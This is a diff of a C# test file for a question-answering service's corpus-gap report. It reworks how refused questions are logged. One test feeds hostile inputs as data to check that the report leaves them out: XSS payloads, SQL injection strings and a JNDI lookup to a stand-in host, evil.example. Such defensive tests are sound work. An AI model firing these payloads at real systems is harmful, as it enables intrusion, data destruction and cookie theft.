@@ -9,12 +9,12 @@ public sealed class CorpusGapsTests
     {
         await using var log = new LogServices();
         await log.StartAsync();
-        log.Log.Record(Sample.Alice, Sample.Refused("Weather in Pristina?", "My articles mention “Pristina”, but none of them mentions “weather”."), TimeSpan.Zero);
+        log.Log.Record(Sample.Alice, Sample.PartlyRefused("Weather in Pristina?", ["Pristina"], ["weather"]), TimeSpan.Zero);
         log.Clock.Advance(TimeSpan.FromDays(2));
-        log.Log.Record(Sample.Bob, Sample.Refused("What did Albin Kurti say?", "None of my 5 articles mentions “Albin Kurti”."), TimeSpan.Zero);
-        log.Log.Record(Sample.Alice, Sample.Refused("Is the weather good?", "None of my 5 articles mentions “Weather”."), TimeSpan.Zero);
-        log.Log.Record(Sample.Alice, Sample.Refused("Albin Kurti and KFOR?", "None of my 5 articles mentions “Albin Kurti”."), TimeSpan.Zero);
-        log.Log.Record(Sample.Bob, Sample.Refused("Kurti's weather?", "None of my 5 articles mentions “Albin Kurti” or “weather”."), TimeSpan.Zero);
+        log.Log.Record(Sample.Bob, Sample.Refused("What did Albin Kurti say?", "Albin Kurti"), TimeSpan.Zero);
+        log.Log.Record(Sample.Alice, Sample.Refused("Is the weather good?", "Weather"), TimeSpan.Zero);
+        log.Log.Record(Sample.Alice, Sample.Refused("Albin Kurti and KFOR?", "Albin Kurti"), TimeSpan.Zero);
+        log.Log.Record(Sample.Bob, Sample.Refused("Kurti's weather?", "Albin Kurti", "weather"), TimeSpan.Zero);
         log.Log.Record(Sample.Bob, Sample.Answered(), TimeSpan.Zero);
         await log.StopAsync();
 
@@ -33,9 +33,9 @@ public sealed class CorpusGapsTests
     {
         await using var log = new LogServices();
         await log.StartAsync();
-        log.Log.Record(Sample.Bob, Sample.Refused("albin kurti kfor", "None of my 5 articles mentions “albin” or “kurti”."), TimeSpan.Zero);
-        log.Log.Record(Sample.Alice, Sample.Refused("What did Albin Kurti say about KFOR?", "None of my 5 articles mentions “Albin” or “Kurti”."), TimeSpan.Zero);
-        log.Log.Record(Sample.Bob, Sample.Refused("Does Kurti like the weather?", "My articles mention “like”, but none of them mentions “Kurti” or “weather”."), TimeSpan.Zero);
+        log.Log.Record(Sample.Bob, Sample.Refused("albin kurti kfor", "albin", "kurti"), TimeSpan.Zero);
+        log.Log.Record(Sample.Alice, Sample.Refused("What did Albin Kurti say about KFOR?", "Albin", "Kurti"), TimeSpan.Zero);
+        log.Log.Record(Sample.Bob, Sample.PartlyRefused("Does Kurti like the weather?", ["like"], ["Kurti", "weather"]), TimeSpan.Zero);
         await log.StopAsync();
 
         var gaps = await log.Get<CorpusGaps>().FindAsync(null, CancellationToken.None);
@@ -44,25 +44,25 @@ public sealed class CorpusGapsTests
     }
 
     [Theory]
-    [InlineData("1", "“1”")]
-    [InlineData("7?", "“7”")]
-    [InlineData("x", "“x”")]
-    [InlineData("<script>alert('x')</script>", "“script” or “alert”")]
-    [InlineData("document.cookie", "“document.cookie”")]
-    [InlineData("what is document . cookie", "“document” or “cookie”")]
-    [InlineData("javascript:alert(1)", "“javascript” or “alert”")]
-    [InlineData("<b>weather</b>", "“b” or “weather”")]
-    [InlineData("<img src=x onerror=alert(1)>", "“img”, “src”, “onerror” or “alert”")]
-    [InlineData("'; DROP TABLE passages; --", "“DROP”, “TABLE” or “passages”")]
-    [InlineData("\" OR 1=1 --", "“1=1”")]
-    [InlineData("&lt;weather&gt;", "“lt” or “weather”")]
-    [InlineData("${jndi:ldap://evil.example/a}", "“jndi” or “ldap”")]
-    public async Task Gaps_LeaveOutNoiseAndHostileInput(string question, string quoted)
+    [InlineData("1", "1")]
+    [InlineData("7?", "7")]
+    [InlineData("x", "x")]
+    [InlineData("<script>alert('x')</script>", "script|alert")]
+    [InlineData("document.cookie", "document.cookie")]
+    [InlineData("what is document . cookie", "document|cookie")]
+    [InlineData("javascript:alert(1)", "javascript|alert")]
+    [InlineData("<b>weather</b>", "b|weather")]
+    [InlineData("<img src=x onerror=alert(1)>", "img|src|onerror|alert")]
+    [InlineData("'; DROP TABLE passages; --", "DROP|TABLE|passages")]
+    [InlineData("\" OR 1=1 --", "1=1")]
+    [InlineData("&lt;weather&gt;", "lt|weather")]
+    [InlineData("${jndi:ldap://evil.example/a}", "jndi|ldap")]
+    public async Task Gaps_LeaveOutNoiseAndHostileInput(string question, string uncovered)
     {
         await using var log = new LogServices();
         await log.StartAsync();
-        log.Log.Record(Sample.Alice, Sample.Refused(question, $"None of my 5 articles mentions {quoted}."), TimeSpan.Zero);
-        log.Log.Record(Sample.Bob, Sample.Refused("Is the weather good?", "None of my 5 articles mentions “weather”."), TimeSpan.Zero);
+        log.Log.Record(Sample.Alice, Sample.Refused(question, uncovered.Split('|')), TimeSpan.Zero);
+        log.Log.Record(Sample.Bob, Sample.Refused("Is the weather good?", "weather"), TimeSpan.Zero);
         await log.StopAsync();
 
         var gaps = await log.Get<CorpusGaps>().FindAsync(null, CancellationToken.None);
